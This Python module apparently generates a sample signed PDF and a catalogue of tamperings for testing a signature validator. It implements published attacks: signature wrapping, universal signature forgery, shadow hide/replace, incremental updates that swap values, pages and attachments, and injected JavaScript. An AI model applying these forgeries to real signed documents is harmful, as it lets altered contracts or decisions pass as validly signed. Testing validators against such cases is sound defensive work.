"""Ways to make a signed PDF lie, from the literature, on a paper of our own.

USF, SWA, ISA: Mladenov, Mainka et al. 2019 ("1 Trillion Dollar Refund"); shadow attacks: Mainka,
Mladenov, Rohlmann 2021; evil annotation: Rohlmann et al. 2021.
"""

import re
from collections.abc import Callable
from io import BytesIO

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    StreamObject,
    pdf_string,
)
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

_SECRET = b"BT /F1 24 Tf 72 500 Td (Muc phat: 9.000.000 dong) Tj ET"


def paper() -> bytes:
    """Two pages, a filled and an empty field, an attachment, an overlay, a hidden second tree.

    Objects in classic form (no object streams), so that raw attacks can find them.
    """
    pdf = pikepdf.new()
    font = pdf.make_indirect(
        Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    )
    cover = pdf.make_indirect(_form(pdf, b"1 g 0 0 200 40 re f"))
    resources = Dictionary(Font=Dictionary(F1=font), XObject=Dictionary(Cover=cover))
    body = b"BT /F1 24 Tf 72 700 Td (Quyet dinh so 1) Tj ET " + _SECRET
    for content in (body + b" q 1 0 0 1 72 490 cm /Cover Do Q", b"BT ET"):
        pdf.add_blank_page(page_size=(595, 842))
        pdf.pages[-1].Contents = pdf.make_stream(content)
        pdf.pages[-1].Resources = resources
    fields = [
        _field(pdf, "HoTen", "Nguyen Van A", 600), _field(pdf, "GhiChu", "", 560)
    ]  # fmt: skip
    pdf.pages[0].Annots = pdf.make_indirect(Array(fields))
    pdf.Root.AcroForm = pdf.make_indirect(
        Dictionary(
            Fields=Array(fields),
            DR=Dictionary(Font=Dictionary(F1=font)),
            DA=b"/F1 12 Tf 0 g",
        )
    )
    attached = pikepdf.AttachedFileSpec(pdf, b"ban goc", filename="phu-luc.txt")
    pdf.attachments["phu-luc.txt"] = attached
    pdf.Root.HiddenTree = _other_tree(pdf)
    # an object that looks like the page's content, inside a stream: only bytes until pointed at
    number = pdf.pages[0].Contents.objgen[0]
    hidden = b"%d 0 obj\n<< /Length 5 >>\nstream\nBT ET\nendstream\nendobj\n" % number
    pdf.Root.Decoy = pdf.make_stream(hidden)
    out = BytesIO()
    pdf.save(
        out,
        object_stream_mode=pikepdf.ObjectStreamMode.disable,
        compress_streams=False,
        static_id=True,
    )
    return out.getvalue()


def _form(pdf: pikepdf.Pdf, data: bytes) -> Stream:
    made = pdf.make_stream(data)
    made.Type, made.Subtype = Name.XObject, Name.Form
    made.BBox = Array([0, 0, 200, 40])
    return made


def _field(pdf: pikepdf.Pdf, name: str, value: str, top: int) -> pikepdf.Object:
    made = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Widget,
        FT=Name.Tx,
        T=name,
        F=4,
        Rect=Array([72, top, 300, top + 20]),
        DA=b"/F1 12 Tf 0 g",
        AP=Dictionary(N=pdf.make_indirect(_form(pdf, b"BT (" + value.encode() + b") Tj ET"))),
    )
    if value:
        made.V = value
    return pdf.make_indirect(made)


def _other_tree(pdf: pikepdf.Pdf) -> pikepdf.Object:
    tree = pdf.make_indirect(Dictionary(Type=Name.Pages, Count=1))
    page = pdf.make_indirect(
        Dictionary(
            Type=Name.Page,
            Parent=tree,
            MediaBox=Array([0, 0, 595, 842]),
            Contents=pdf.make_stream(b"BT (Giay uy quyen) Tj ET"),
            Resources=Dictionary(),
        )
    )
    tree.Kids = Array([page])
    return tree


# Incremental updates: the signed bytes themselves stay whole


def updated(content: bytes, change: Callable[[IncrementalPdfFileWriter], None]) -> bytes:
    writer = IncrementalPdfFileWriter(BytesIO(content))
    change(writer)
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def _page(writer: IncrementalPdfFileWriter) -> DictionaryObject:
    return writer.root["/Pages"]["/Kids"][0]


def _named(writer: IncrementalPdfFileWriter, name: str) -> DictionaryObject:
    fields = [f.get_object() for f in writer.root["/AcroForm"]["/Fields"]]
    return next(f for f in fields if f["/T"] == name)


def _dict(**items) -> DictionaryObject:
    return DictionaryObject({NameObject(f"/{k}"): v for k, v in items.items()})


def _script() -> DictionaryObject:
    return _dict(S=NameObject("/JavaScript"), JS=pdf_string("app.alert(1)"))


def _drawn(writer: IncrementalPdfFileWriter, data: bytes) -> generic.IndirectObject:
    form = _dict(
        Type=NameObject("/XObject"),
        Subtype=NameObject("/Form"),
        BBox=ArrayObject(NumberObject(n) for n in (0, 0, 200, 40)),
    )
    return writer.add_object(StreamObject(form, stream_data=data))


def replace_content(writer):
    page = _page(writer)
    page["/Contents"] = writer.add_object(StreamObject(stream_data=b"0 0 200 200 re f"))
    writer.update_container(page)


def turn_page(writer):
    page = _page(writer)
    page["/Rotate"] = NumberObject(180)
    writer.update_container(page)


def lay_annotation(writer):
    page = _page(writer)
    note = _dict(
        Type=NameObject("/Annot"),
        Subtype=NameObject("/FreeText"),
        Rect=ArrayObject(NumberObject(n) for n in (60, 480, 400, 720)),
        F=NumberObject(4),
        AP=_dict(N=_drawn(writer, b"1 g 0 0 200 40 re f")),
    )
    page["/Annots"].append(writer.add_object(note))
    writer.update_container(page["/Annots"])


def add_page(writer):
    tree = writer.root["/Pages"]
    made = _dict(
        Type=NameObject("/Page"),
        Parent=generic.IndirectObject(
            tree.container_ref.idnum, tree.container_ref.generation, writer
        ),
        MediaBox=ArrayObject(NumberObject(n) for n in (0, 0, 595, 842)),
    )
    tree["/Kids"].append(writer.add_object(made))
    tree["/Count"] = NumberObject(3)
    writer.update_container(tree)


def drop_page(writer):
    tree = writer.root["/Pages"]
    tree["/Kids"] = ArrayObject([tree["/Kids"].raw_get(0)])
    tree["/Count"] = NumberObject(1)
    writer.update_container(tree)


def change_value(writer):
    field = _named(writer, "HoTen")
    field["/V"] = pdf_string("Tran Van B")
    field["/AP"] = _dict(N=_drawn(writer, b"BT (Tran Van B) Tj ET"))
    writer.update_container(field)


def change_look(writer):
    """The value stays; only what is drawn for it changes."""
    field = _named(writer, "HoTen")
    field["/AP"] = _dict(N=_drawn(writer, b"BT (Tran Van B) Tj ET"))
    writer.update_container(field)


def paint_in_empty_field(writer):
    field = _named(writer, "GhiChu")
    field["/AP"] = _dict(N=_drawn(writer, b"1 g 0 0 200 40 re f BT (0 dong) Tj ET"))
    writer.update_container(field)


def fill_empty_field(writer):
    """What forms are for."""
    field = _named(writer, "GhiChu")
    field["/V"] = pdf_string("Da nhan")
    field["/AP"] = _dict(N=_drawn(writer, b"BT (Da nhan) Tj ET"))
    writer.update_container(field)


def script_on_opening(writer):
    writer.root["/OpenAction"] = _script()
    writer.update_root()


def script_in_names(writer):
    listed = _dict(Names=ArrayObject([pdf_string("a"), writer.add_object(_script())]))
    writer.root["/Names"][NameObject("/JavaScript")] = writer.add_object(listed)
    writer.update_container(writer.root["/Names"])
    writer.update_root()


def script_in_field(writer):
    field = _named(writer, "GhiChu")
    field["/AA"] = _dict(C=_script())
    writer.update_container(field)


def dynamic_form(writer):
    form = writer.root["/AcroForm"]
    form["/XFA"] = writer.add_object(StreamObject(stream_data=b"<xdp/>"))
    writer.update_container(form)


def _attached(writer) -> StreamObject:
    names = writer.root["/Names"]["/EmbeddedFiles"]["/Names"]
    return names[1]["/EF"]["/F"]


def swap_attachment(writer):
    stream = _attached(writer)
    stream._data = b"ban khac"
    stream._encoded_data = None
    writer.update_container(stream)


def add_attachment(writer):
    tree = writer.root["/Names"]["/EmbeddedFiles"]
    one = _dict(
        Type=NameObject("/Filespec"),
        F=pdf_string("x.exe"),
        EF=_dict(F=writer.add_object(StreamObject(stream_data=b"MZ"))),
    )
    tree["/Names"] += [pdf_string("x.exe"), writer.add_object(one)]
    writer.update_container(tree)


def shadow_hide(writer):
    """The overlay that hid a line while it was signed is made empty."""
    cover = _page(writer)["/Resources"]["/XObject"]["/Cover"]
    cover._data, cover._encoded_data = b"q Q", None
    writer.update_container(cover)


def shadow_replace(writer):
    """The font that draws the signed text is exchanged: other letters for the same codes."""
    font = _page(writer)["/Resources"]["/Font"]["/F1"]
    font["/Encoding"] = _dict(
        Type=NameObject("/Encoding"),
        Differences=ArrayObject([NumberObject(57), NameObject("/zero")]),
    )
    writer.update_container(font)


def shadow_hide_and_replace(writer):
    """Both documents were signed; the catalogue now shows the other one."""
    writer.root["/Pages"] = writer.root.raw_get("/HiddenTree")
    writer.update_root()


def drop_form(writer):
    del writer.root["/AcroForm"]
    writer.update_root()


UPDATES = {
    "content replaced": replace_content,
    "annotation laid over": lay_annotation,
    "page turned": turn_page,
    "page added": add_page,
    "page removed": drop_page,
    "value of a filled field changed": change_value,
    "look of a filled field changed": change_look,
    "empty field painted over the page": paint_in_empty_field,
    "script run on opening": script_on_opening,
    "script among the names": script_in_names,
    "script in a field": script_in_field,
    "XFA form": dynamic_form,
    "attachment swapped": swap_attachment,
    "attachment added": add_attachment,
    "shadow: hide": shadow_hide,
    "shadow: replace": shadow_replace,
    "shadow: hide and replace": shadow_hide_and_replace,
    "form dropped": drop_form,
}


# Raw: on the bytes


def parts(content: bytes) -> tuple[bytes, bytes, bytes]:
    """What the last signature covers before its value, the value as written, and after."""
    ranges = re.findall(rb"/ByteRange ?\[ ?(\d+) +(\d+) +(\d+) +(\d+) *\]", content)
    _, first, second, last = (int(n) for n in ranges[-1])
    return content[:first], content[first:second], content[second : second + last]


def repointed(content: bytes) -> bytes:
    """An update of nothing but a cross-reference: an object is read from another signed place."""
    found = re.search(rb"(\d+) 0 obj\n<< /Length 5 >>\nstream\nBT ET", content)
    start = int(re.findall(rb"startxref\s+(\d+)", content)[-1])
    trailer = re.findall(rb"trailer\s*<<(.*?)>>\s*startxref", content, re.S)[-1]
    trailer = re.sub(rb"/Prev \d+", b"", trailer)
    update = b"xref\n%d 1\n%010d 00000 n \ntrailer\n<<%b /Prev %d>>\nstartxref\n%d\n%%%%EOF\n"
    told = int(found.group(1)), found.start(), trailer, start, len(content)
    return content + update % told


def wrapped(content: bytes) -> bytes:
    """SWA: the second signed part is moved behind new objects and a new cross-reference table.

    The hash of both parts is still right, with a /ByteRange that names where they now are.
    """
    before, value, after = parts(content)
    number = int(re.findall(rb"(\d+) 0 obj", before)[-1])
    start = int(re.findall(rb"startxref\s+(\d+)", content)[-1])
    trailer = re.findall(rb"trailer\s*<<(.*?)>>\s*startxref", content, re.S)[-1]
    trailer = b"trailer\n<<" + re.sub(rb"/Prev \d+", b"", trailer) + b">>\n"
    evil, moved = len(before) + len(value), start + 60_000
    signature = _signature_object(number, value, len(before), moved, len(after))
    length = len(_table(content, {}, shift=0, beyond=0)) + len(trailer)
    place = {number: start + length}
    table = _table(content, place, shift=moved - evil, beyond=evil)
    whole = (before + value).ljust(start, b" ") + table + trailer + signature
    return whole.ljust(moved, b" ") + after


def _signature_object(number: int, value: bytes, first: int, second: int, last: int) -> bytes:
    return (
        b"%d 0 obj\n<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached "
        b"/ByteRange [0 %d %d %d] /Contents %b >>\nendobj\n" % (number, first, second, last, value)
    )


def _table(content: bytes, place: dict[int, int], *, shift: int, beyond: int) -> bytes:
    """A classic table of every object's last place; those of the moved part are shifted."""
    offsets = {int(m.group(1)): m.start(1) for m in re.finditer(rb"(?:^|\n)(\d+) 0 obj", content)}
    offsets = {n: at + shift if at >= beyond else at for n, at in offsets.items()} | place
    size = max(offsets) + 1
    rows = [
        b"%010d 00000 n \n" % offsets[n] if n in offsets else b"0000000000 65535 f \n"
        for n in range(size)
    ]
    return b"xref\n0 %d\n" % size + b"".join(rows)


def literal_gap(content: bytes) -> bytes:
    """The value written as a literal string leaves half of the gap free for unsigned bytes."""
    before, value, after = parts(content)
    raw = bytes.fromhex(value[1:-1].decode())
    escaped = re.sub(rb"([()\\\r])", lambda m: b"\\" + m[1].replace(b"\r", b"r"), raw)
    gap = b"(" + escaped + b")% 99 0 obj << /Evil true >> endobj "
    return before + gap.ljust(len(value) - 1, b" ") + b"\n" + after


def padded(content: bytes) -> bytes:
    """Bytes of somebody else after the signature value."""
    before, value, after = parts(content)
    return before + value[:-9] + b"6162636465"[:8] + b">" + after


def _value(content: bytes, new: bytes) -> bytes:
    before, value, after = parts(content)
    return before + new.ljust(len(value), b" ")[: len(value)] + after


def _range(content: bytes, new: bytes) -> bytes:
    return re.sub(
        rb"/ByteRange ?\[[^]]*\]", lambda m: new.ljust(len(m.group())), content
    )  # fmt: skip


def _flip(content: bytes, at: int) -> bytes:
    return content[:at] + bytes([content[at] ^ 0x20]) + content[at + 1 :]


def resaved(content: bytes) -> bytes:
    out = BytesIO()
    with pikepdf.open(BytesIO(content)) as pdf:
        pdf.save(out)
    return out.getvalue()


RAW = {
    "bit flipped in the header": lambda c: _flip(c, 7),
    "bit flipped in the content": lambda c: _flip(c, c.index(b"Muc phat")),
    "bit flipped after the signature": lambda c: _flip(c, c.rindex(b"trailer")),
    "saved anew": resaved,
    "1 KB appended": lambda c: c + b"\0" * 1024,
    "1 KB of text appended": lambda c: c + b"x" * 1024,
    "last 10 bytes cut": lambda c: c[:-10],
    "second half cut": lambda c: c[: len(c) // 2],
    "cross-reference pointed elsewhere": repointed,
    "SWA: second part moved": wrapped,
    "SWA: objects in the gap": literal_gap,
    "bytes after the value": padded,
    "USF: value null": lambda c: _value(c, b"null"),
    "USF: value empty": lambda c: _value(c, b"<>"),
    "USF: value zero": lambda c: _value(c, b"<00>"),
    "USF: value not a string": lambda c: _value(c, b"1 0 R"),
    "USF: value of nothing": lambda c: _value(c, b"<3000>"),
    "USF: ByteRange gone": lambda c: _range(c, b""),
    "USF: ByteRange null": lambda c: _range(c, b"/ByteRange null"),
    "USF: ByteRange empty": lambda c: _range(c, b"/ByteRange []"),
    "USF: ByteRange zero": lambda c: _range(c, b"/ByteRange [0 0 0 0]"),
    "USF: ByteRange negative": lambda c: _range(c, b"/ByteRange [0 -1 -1 -1]"),
    "USF: ByteRange huge": lambda c: _range(c, b"/ByteRange [0 9 9 99999999999]"),
    "USF: ByteRange of names": lambda c: _range(c, b"/ByteRange [/a /b /c /d]"),
    "USF: unknown filter": lambda c: c.replace(b"/ETSI.CAdES.detached", b"/ETSI.CAdES.detachee"),
}
